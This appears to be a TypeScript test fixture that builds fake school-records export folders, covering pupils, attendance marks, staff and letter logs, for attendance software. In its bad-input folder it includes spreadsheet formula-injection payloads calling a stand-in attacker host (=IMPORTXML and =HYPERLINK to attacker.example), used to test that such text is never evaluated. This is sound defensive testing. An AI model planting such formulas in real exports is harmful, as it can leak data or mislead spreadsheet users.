/**
 * Three --data folders made from scratch for issue 16, as a school's own MIS would export them —
 * with other headers than the sample school's ("Legal Surname", "Form", "NC Year", "Adm No" …):
 *   (a) a staff list without an attendance officer, and no settings.json;
 *   (b) a letter history kept as Date, Type, UPN (types as people write them), whose AT1 for one
 *       pupil is 8 school weeks old, plus a Contacts export;
 *   (c) a students file with names that look like formulas and other bad input.
 * `saveAsXlsx` turns a folder into the same exports saved from Excel: whole numbers become
 * numbers, dd/mm/yyyy dates become date cells, everything else stays text.
 *
 * The school: Oakfield, Year 9, reg groups 9X and 9Y; school weeks Mon 06/11/2023 – Fri 22/12/2023
 * and Mon 08/01/2024 – Fri 26/01/2024 (10 school weeks, 100 sessions each), as of Fri 26/01/2024.
 *   A Amir Khan    9X  present throughout              100%  reward
 *   B Bella Jones  9X  4 × I on 24 and 25 January       96%  level 1
 *   C Callum Reid  9X  8 × O in the first week          92%  level 2   (b: AT1 13/11/2023)
 *   D Dina Patel   9Y  11 × I in the first two weeks    89%  level 2, PA
 *   E Ethan Ward   9Y  9 × O in the first week          91%  level 2   (b: AT1 06/11, AT2 04/12/2023)
 */
import * as fs from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { upnCheckLetter } from '../../src/core/records/upn';
import { makeUpn } from '../upn';
import { csvLine } from '../../local/sample/writeCsv';
import { addDays, isWeekend } from '../../src/core/dates';

export const DOMAIN = 'oakfield.sch.uk';
export const OWNER = `owner@${DOMAIN}`;
export const AS_OF = '2024-01-26';

export const U = { A: makeUpn(101), B: makeUpn(102), C: makeUpn(103), D: makeUpn(104), E: makeUpn(105) };

const toUk = (iso: string) => iso.split('-').reverse().join('/');

/** Every school day of the register (Christmas: no sessions 25/12/2023 – 05/01/2024). */
export function schoolDays(): string[] {
  const out: string[] = [];
  for (const [from, to] of [['2023-11-06', '2023-12-22'], ['2024-01-08', '2024-01-26']]) {
    for (let d = from; d <= to; d = addDays(d, 1)) if (!isWeekend(d)) out.push(d);
  }
  return out;
}

const STUDENT_HEAD = ['UPN', 'Adm No', 'Legal Forename', 'Legal Surname', 'NC Year', 'Form', 'Primary Contact', 'Primary Contact Email', 'Home Address', 'Ethnicity'];
const PUPILS: [keyof typeof U, string, string, string][] = [
  ['A', 'Amir', 'Khan', '9X'], ['B', 'Bella', 'Jones', '9X'], ['C', 'Callum', 'Reid', '9X'], ['D', 'Dina', 'Patel', '9Y'], ['E', 'Ethan', 'Ward', '9Y'],
];

export function students(extra: string[][] = []): string[][] {
  const rows = PUPILS.map(([k, f, s, g], i) => [U[k], String(2301 + i), f, s, '9', g, `Mrs ${s}`, `parent.${s.toLowerCase()}@home.example`, `${i + 1} Oak Road, Oakfield, OK1 ${i + 1}AB`, 'White British']);
  return [STUDENT_HEAD, ...rows, ...extra];
}

/** Absences: pupil → [day index, session, code][]; every other session is "/". */
function absences(): Record<string, [number, 'AM' | 'PM', string][]> {
  const both = (days: number[], code: string) => days.flatMap((d) => [[d, 'AM', code], [d, 'PM', code]] as [number, 'AM' | 'PM', string][]);
  return {
    [U.B]: both([47, 48], 'I'), // the last week: Wed 24 and Thu 25 January
    [U.C]: both([0, 1, 2, 3], 'O'),
    [U.D]: [...both([0, 1, 2, 3, 4], 'I'), [5, 'AM', 'I']],
    [U.E]: [...both([0, 1, 2, 3], 'O'), [4, 'AM', 'O']],
  };
}

const MARKS_HEAD = ['Pupil UPN', 'Date', 'Session', 'Mark'];

export function marks(): string[][] {
  const days = schoolDays();
  const abs = absences();
  const rows: string[][] = [MARKS_HEAD];
  for (const [k] of PUPILS) {
    const upn = U[k];
    days.forEach((d, i) => {
      for (const s of ['AM', 'PM'] as const) {
        const hit = (abs[upn] || []).find(([di, ss]) => di === i && ss === s);
        rows.push([upn, toUk(d), s, hit ? hit[2] : '/']);
      }
    });
  }
  return rows;
}

const STAFF_HEAD = ['Staff Name', 'E-mail', 'Roles', 'Year Group', 'Form', 'Dept'];
/** No attendance officer; a supply tutor whose address is outside the school's domain. */
export function staff(): string[][] {
  return [
    STAFF_HEAD,
    ['Pat Head', `pat.head@${DOMAIN}`, 'SLT', '', '', ''],
    ['Hana Year', `hana.year@${DOMAIN}`, 'Head of Year', '9', '', ''],
    ['Tom Tutor', `tom.tutor@${DOMAIN}`, 'Form tutor', '9', '9X', ''],
    ['Sam Supply', 'sam.supply@gmail.com', 'Form tutor', '9', '9Y', ''],
    ['Cleo Lead', `cleo.lead@${DOMAIN}`, 'Teacher', '', '', 'Maths'],
  ];
}

function write(dir: string, file: string, rows: string[][]): void {
  fs.writeFileSync(path.join(dir, file), rows.map(csvLine).join(''), 'utf8');
}

export function folderA(dir: string): string {
  fs.mkdirSync(dir, { recursive: true });
  write(dir, 'students.csv', students());
  write(dir, 'staff.csv', staff());
  write(dir, 'attendance-marks.csv', marks());
  return dir;
}

export function folderB(dir: string): string {
  folderA(dir);
  write(dir, 'letters-log.csv', [
    ['Date', 'Type', 'UPN', 'Status', 'By'],
    ['06/11/2023', 'Attendance letter 1', U.E, 'Posted', 'Hana Year'],
    ['13/11/2023', 'AT1 letter', U.C, 'Sent', 'Hana Year'],
    ['04/12/2023', 'AT2', U.E, 'Sent', 'Hana Year'],
  ]);
  write(dir, 'contacts.csv', [
    ['UPN', 'Contact Title', 'Contact Forename', 'Contact Surname', 'Relationship', 'Parental Resp', 'Priority', 'Email Address', 'Lives With Pupil', 'Salutation'],
    [U.C, 'Mrs', 'Jo', 'Reid', 'Mother', 'Yes', '1', 'jo.reid@home.example', 'Yes', 'Dear Mrs Reid'],
    [U.C, 'Mr', 'Ian', 'Reid', 'Father', 'Yes', '2', '', 'No', 'Dear Mr Reid'],
    [U.E, 'Ms', 'Lee', 'Ward', 'Mother', 'Yes', '1', 'lee.ward@home.example', 'Yes', ''],
  ]);
  fs.writeFileSync(path.join(dir, 'settings.json'), JSON.stringify({ school: { name: 'Oakfield School', address: '1 School Lane\nOakfield\nOK1 1AA' } }, null, 2));
  return dir;
}

/** The bad rows of folder (c), with the file row each one is on. */
export const BAD = {
  formula: '=IMPORTXML("http://attacker.example/x","//a")',
  lostZeros: 'A80200000123', // a letter and 11 digits: the number lost a leading zero
  wrongCheck: 'Z' + makeUpn(106).slice(1),
};

export function folderC(dir: string): string {
  folderA(dir);
  const six = makeUpn(107);
  write(dir, 'students.csv', students([
    [makeUpn(108), '2311', 'Fred', BAD.formula, '9', '9X', '', '', '', ''],
    [makeUpn(109), '2312', '+44 7700 900123', 'Grey', '9', '9X', '', '', '', ''],
    [makeUpn(110), '2313', 'Hal', '-Smith', '9', '9X', '', '', '', ''],
    [makeUpn(111), '2314', '@handle', 'Ives', '9', '9X', '', '', '', ''],
    [BAD.lostZeros, '2315', 'Jack', 'Jones', '9', '9X', '', '', '', ''],
    [BAD.wrongCheck, '2316', 'Kim', 'Kay', '9', '9X', '', '', '', ''],
    // Formula-like text where text belongs (an address) is kept as text, never evaluated.
    [six, '2317', 'Lia', 'Long', '9', '9X', '', '', '=HYPERLINK("http://attacker.example","click")', ''],
  ]));
  // Marks: one row dated US-style (refused), one written ISO (read), Lia's full register.
  const rows = marks();
  const days = schoolDays();
  const bRow = rows.findIndex((r) => r[0] === U.B && r[1] === toUk(days[1]) && r[2] === 'AM');
  rows[bRow][1] = days[1]; // 2023-11-07
  rows.push([U.A, '11/13/2023', 'PM', '/']);
  for (const d of days) for (const s of ['AM', 'PM']) rows.push([six, toUk(d), s, '/']);
  write(dir, 'attendance-marks.csv', rows);
  if (upnCheckLetter(BAD.wrongCheck.slice(1)) === 'Z') throw new Error('the wrong check letter must be wrong');
  return dir;
}

/** The file row of the US-dated mark in folder (c) (header is row 1). */
export function usDateRow(): number {
  return 1 + PUPILS.length * schoolDays().length * 2 + 1;
}

const WHOLE = /^(0|[1-9]\d{0,14})$/;
const UK_DATE = /^(\d{2})\/(\d{2})\/(\d{4})$/;

/**
 * The folder again, each .csv saved as an .xlsx the way Excel saves it from a UK machine: whole
 * numbers → numbers, dd/mm/yyyy → date cells; `serial` names cells to store as a bare Excel serial
 * number instead (a date column that lost its date format).
 */
export async function saveAsXlsx(from: string, to: string, serial: (file: string, row: number, col: number) => boolean = () => false): Promise<void> {
  fs.mkdirSync(to, { recursive: true });
  for (const f of fs.readdirSync(from)) {
    if (!/\.csv$/.test(f)) {
      fs.copyFileSync(path.join(from, f), path.join(to, f));
      continue;
    }
    const { readCsv } = await import('../../src/core/records/csv');
    const rows = readCsv(new Uint8Array(fs.readFileSync(path.join(from, f)))).rows;
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet(f.replace(/\.csv$/, ''));
    rows.forEach((row, r) => {
      row.forEach((v, c) => {
        const cell = ws.getCell(r + 1, c + 1);
        const m = UK_DATE.exec(v);
        const real = m && +m[2] >= 1 && +m[2] <= 12 && +m[1] >= 1 && new Date(Date.UTC(+m[3], +m[2] - 1, +m[1])).getUTCDate() === +m[1];
        if (m && real && r > 0) {
          const when = Date.UTC(+m[3], +m[2] - 1, +m[1]);
          if (serial(f, r + 1, c + 1)) cell.value = when / 86400000 + 25569;
          else {
            cell.value = new Date(when);
            cell.numFmt = 'dd/mm/yyyy';
          }
        } else if (WHOLE.test(v) && r > 0) cell.value = Number(v);
        else if (v !== '') cell.value = v;
      });
    });
    await wb.xlsx.writeFile(path.join(to, f.replace(/\.csv$/, '.xlsx')));
  }
}
